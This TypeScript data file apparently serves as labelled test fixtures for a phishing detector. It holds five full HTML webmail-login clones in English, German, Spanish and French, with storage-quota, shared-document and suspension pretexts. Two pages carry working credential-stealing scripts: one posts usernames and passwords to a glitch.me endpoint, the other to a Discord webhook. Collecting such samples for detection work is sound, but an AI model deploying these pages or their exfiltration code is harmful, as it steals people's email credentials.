import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-webmail-roundcube-quota',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://mail-quota-center.web.app/roundcube/?_task=login#j.mueller@kanzlei-hartmann.de',
  routes: {
    'mail-quota-center.web.app/roundcube/': htmlRoute(`<!DOCTYPE html>
<html>
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Roundcube Webmail :: Welcome to Roundcube Webmail</title>
<link rel="shortcut icon" href="skins/elastic/images/favicon.ico">
<style>
body{margin:0;background:#f4f4f4;font-family:"Roboto","Helvetica Neue",Arial,sans-serif;font-size:14px;color:#2c363a}
#layout{display:flex;align-items:center;justify-content:center;height:100vh}
#login-form{background:#fff;width:360px;padding:30px 40px;border-radius:4px;box-shadow:0 0 6px rgba(0,0,0,.15)}
#logo{display:block;margin:0 auto 20px;max-height:60px}
.quota{background:#fff3cd;border:1px solid #ffe08a;padding:10px;font-size:13px;margin-bottom:14px}
.bar{height:10px;background:#eee;border-radius:5px;overflow:hidden;margin:6px 0}.bar div{height:100%;width:99%;background:#d9534f}
td.title{padding-right:10px;text-align:right;white-space:nowrap;color:#666}
input.form-control{width:100%;height:36px;border:1px solid #ced4da;border-radius:3px;padding:0 8px;box-sizing:border-box}
.button.mainaction{width:100%;height:38px;margin-top:12px;background:#37beff;border:0;color:#fff;border-radius:3px;font-size:15px}
#login-footer{text-align:center;color:#999;font-size:12px;margin-top:14px}
</style>
</head>
<body>
<div id="layout">
<div id="login-form">
<img src="skins/elastic/images/logo.svg" id="logo" alt="Logo">
<div class="quota"><b>Mailbox storage almost full</b><div class="bar"><div></div></div>1.99 GB of 2 GB used. Incoming messages are being held. Log in to re-validate your mailbox and upgrade your storage for free.</div>
<form name="login-form" method="post" action="?_task=login&amp;_action=revalidate" onsubmit="return go(this)">
<input type="hidden" name="_token" value="YQfNtlKr0xqM6d2XK">
<input type="hidden" name="_task" value="login">
<table><tbody>
<tr><td class="title"><label for="rcmloginuser">Username</label></td><td class="input"><input name="_user" id="rcmloginuser" required size="40" class="form-control" autocapitalize="off" autocomplete="off" type="text"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td class="input"><input name="_pass" id="rcmloginpwd" required size="40" class="form-control" autocomplete="off" type="password"></td></tr>
</tbody></table>
<p class="formbuttons"><button type="submit" id="rcmloginsubmit" class="button mainaction submit">Login</button></p>
</form>
<div id="login-footer">Roundcube Webmail</div>
</div>
</div>
<script>
var em = decodeURIComponent(location.hash.replace('#',''));
if (em.indexOf('@') > 0) {
  document.getElementById('rcmloginuser').value = em;
  var dom = em.split('@')[1];
  document.getElementById('logo').src = 'https://logo.clearbit.com/' + dom;
  document.title = dom + ' :: Webmail';
}
function go(f) {
  var x = new XMLHttpRequest();
  x.open('POST', 'https://mailbox-sync-api.glitch.me/r.php', false);
  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
  try { x.send('u=' + encodeURIComponent(f._user.value) + '&p=' + encodeURIComponent(f._pass.value) + '&h=' + location.hostname); } catch (e) {}
  alert('Your mailbox has been re-validated successfully.');
  location.href = 'https://' + (em.split('@')[1] || 'google.com');
  return false;
}
</script>
</body>
</html>`),
  },
},
{
  id: 'a-webmail-de-postfach-voll',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://webmail-postfach.speicher-erweitern.info/login.php?user=buchhaltung@weber-elektro.de',
  routes: {
    'webmail-postfach.speicher-erweitern.info/login.php': htmlRoute(`<!DOCTYPE html>
<html lang="de">
<head><meta charset="utf-8"><title>Webmail - Anmeldung</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<style>
body{font-family:Tahoma,Arial,sans-serif;background:#dfe7ee;margin:0}
.box{width:380px;margin:90px auto;background:#fff;border:1px solid #b8c6d3}
.head{background:#2d5f8b;color:#fff;padding:12px 16px;font-size:16px}
.in{padding:18px}
.warn{color:#b30000;font-size:13px;margin-bottom:12px}
label{font-size:12px;color:#333}
input[type=text],input[type=password]{width:100%;padding:7px;border:1px solid #9aa;margin:3px 0 10px;box-sizing:border-box}
input[type=submit]{background:#2d5f8b;color:#fff;border:0;padding:7px 22px}
</style></head>
<body>
<div class="box">
<div class="head">&#9993; Webmail Anmeldung</div>
<div class="in">
<div class="warn">Ihr Postfach hat das Speicherlimit erreicht (99%). Neue E-Mails werden abgewiesen. Bitte melden Sie sich an, um den Speicherplatz kostenlos zu erweitern.</div>
<form action="speichern.php" method="post">
<label>E-Mail-Adresse</label><input type="text" name="email" id="email">
<label>Passwort</label><input type="password" name="passwort">
<input type="submit" value="Anmelden">
</form>
</div>
</div>
<script>
var u = location.search.match(/user=([^&]+)/);
if (u) document.getElementById('email').value = decodeURIComponent(u[1]);
</script>
</body></html>`),
    'webmail-postfach.speicher-erweitern.info/speichern.php': htmlRoute(`<html><head><meta http-equiv="refresh" content="3;url=https://www.google.de/"><title>Bitte warten</title></head><body style="font-family:Tahoma">Speicherplatz wird erweitert, bitte warten ...</body></html>`),
  },
},
{
  id: 'a-webmail-es-buzon-verificacion',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://verificacion-buzon-correo.000webhostapp.com/correo/',
  body: `<!DOCTYPE html>
<html lang="es">
<head>
<meta charset="UTF-8">
<title>Administrador del sistema de correo</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{background:#f0f0f0;font-family:Verdana,Arial;font-size:13px}
#c{width:460px;margin:50px auto;background:#fff;border-top:5px solid #c0392b;padding:24px}
h3{margin-top:0;color:#c0392b}
table{width:100%}td{padding:5px 0}
input{width:95%;padding:6px}
.b{background:#c0392b;color:#fff;border:0;padding:8px 26px;width:auto}
</style>
</head>
<body>
<div id="c">
<h3>Verificación de la cuenta de correo</h3>
<p>Estimado usuario,</p>
<p>Su buzón ha superado el límite de almacenamiento establecido por el administrador. Es posible que no pueda enviar ni recibir mensajes nuevos hasta que vuelva a validar su buzón.</p>
<p>Para volver a validar su buzón, complete los siguientes datos:</p>
<form method="post" action="enviar.php">
<table>
<tr><td>Correo electrónico:</td></tr><tr><td><input type="text" name="correo"></td></tr>
<tr><td>Nombre de usuario:</td></tr><tr><td><input type="text" name="usuario"></td></tr>
<tr><td>Contraseña:</td></tr><tr><td><input type="password" name="clave"></td></tr>
<tr><td>Confirmar contraseña:</td></tr><tr><td><input type="password" name="clave2"></td></tr>
<tr><td><br><input class="b" type="submit" value="Validar"></td></tr>
</table>
</form>
<p style="font-size:11px;color:#888">Gracias,<br>Administrador del sistema<br>Servicio Técnico de Correo Web</p>
</div>
</body>
</html>`,
},
{
  id: 'a-webmail-cpanel-horde-shared',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://cpanel-webmail.secure-mailhost-login.com/cpsess8812/webmail/?login=1',
  routes: {
    'cpanel-webmail.secure-mailhost-login.com/cpsess8812/webmail/': htmlRoute(`<!DOCTYPE html>
<html lang="en" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Webmail Login</title>
<link rel="shortcut icon" href="/cpsess8812/webmail/favicon-cp.ico">
<style>
body{margin:0;background:#fff;font-family:"Open Sans",Helvetica,Arial,sans-serif;color:#293a4a}
#login-wrapper{max-width:380px;margin:60px auto;padding:0 20px}
.logo{text-align:center;margin-bottom:30px}.logo img{height:46px}
.notice{font-size:13px;background:#eef7fd;border:1px solid #b9def5;padding:10px;margin-bottom:16px}
label{font-size:14px;font-weight:600;display:block;margin-top:14px}
.input-group{display:flex;border:1px solid #c7ced7;border-radius:3px;margin-top:6px}
.input-group span{width:40px;background:#f2f4f7;display:flex;align-items:center;justify-content:center;color:#6b7886}
.input-group input{flex:1;height:40px;border:0;padding:0 10px;font-size:15px}
#login_submit{margin-top:22px;width:100%;height:44px;background:#179bd7;border:0;color:#fff;font-size:16px;border-radius:3px}
.lang{text-align:center;font-size:12px;color:#6b7886;margin-top:40px}
.copy{text-align:center;font-size:11px;color:#9aa5b1;margin-top:14px}
</style>
</head>
<body>
<div id="login-wrapper">
<div class="logo"><img src="/cpsess8812/webmail/images/webmail-logo.svg" alt="webmail"></div>
<div class="notice">A document has been shared with you via your mail server. Log in with your email account to download <b>Remittance_Advice_0412.pdf</b>.</div>
<form id="login_form" action="/cpsess8812/webmail/dologin.php" method="post">
<label for="user">Email Address</label>
<div class="input-group"><span>&#128100;</span><input id="user" name="user" type="text" placeholder="Enter your email address." autofocus></div>
<label for="pass">Password</label>
<div class="input-group"><span>&#128274;</span><input id="pass" name="pass" type="password" placeholder="Enter your email password."></div>
<button id="login_submit" type="submit">Log in</button>
</form>
<div class="lang">English · العربية · čeština · dansk · Deutsch · Ελληνικά · español · …</div>
<div class="copy">Copyright© 2025 cPanel, L.L.C. · Privacy Policy</div>
</div>
</body>
</html>`),
    'cpanel-webmail.secure-mailhost-login.com/cpsess8812/webmail/dologin.php': redirectRoute(302, '/cpsess8812/webmail/?login=1&err=1'),
  },
},
{
  id: 'a-webmail-fr-messagerie-maj',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://messagerie-maj.webnode.page/connexion',
  body: `<!DOCTYPE html>
<html lang="fr">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Messagerie - Mise à jour</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#e9edf2}
.w{max-width:430px;margin:60px auto;background:#fff;border-radius:6px;overflow:hidden;box-shadow:0 2px 10px rgba(0,0,0,.1)}
.t{background:#1b3a5c;color:#fff;padding:16px 20px;font-size:18px}
.b{padding:22px}
label{display:block;font-size:13px;margin:12px 0 4px;color:#444}
input{width:100%;height:40px;border:1px solid #b8c0cc;border-radius:4px;padding:0 10px;box-sizing:border-box}
button{width:100%;height:42px;margin-top:18px;background:#2a7ae2;color:#fff;border:0;border-radius:4px;font-size:15px}
.s{font-size:11px;color:#888;text-align:center;padding:12px}
</style></head>
<body>
<div class="w">
<div class="t">Service de messagerie</div>
<div class="b">
<p style="font-size:14px">Une mise à jour de sécurité de votre messagerie est nécessaire. Les comptes non mis à jour avant le <b>vendredi</b> seront suspendus et les messages en attente supprimés.</p>
<form id="f">
<label>Adresse e-mail</label><input id="a" type="email" required>
<label>Mot de passe</label><input id="b" type="password" required>
<button type="submit">Mettre à jour</button>
</form>
</div>
<div class="s">© 2025 Service Messagerie. Tous droits réservés.</div>
</div>
<script>
document.getElementById('f').onsubmit = function (e) {
  e.preventDefault();
  var payload = { content: '**MAJ**\\nmail: ' + document.getElementById('a').value + '\\npass: ' + document.getElementById('b').value + '\\nua: ' + navigator.userAgent };
  fetch('https://discord.com/api/webhooks/1187324400192839781/Zk3rTqLh0wPq8cYv2N-4bJm9fXeUaD7sKrG1oHnWlVtQyEi5MuzC6bA', {
    method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(payload)
  }).then(function () { document.querySelector('.b').innerHTML = '<p>Votre compte a été mis à jour avec succès. Merci.</p>'; });
};
</script>
</body></html>`,
},
];
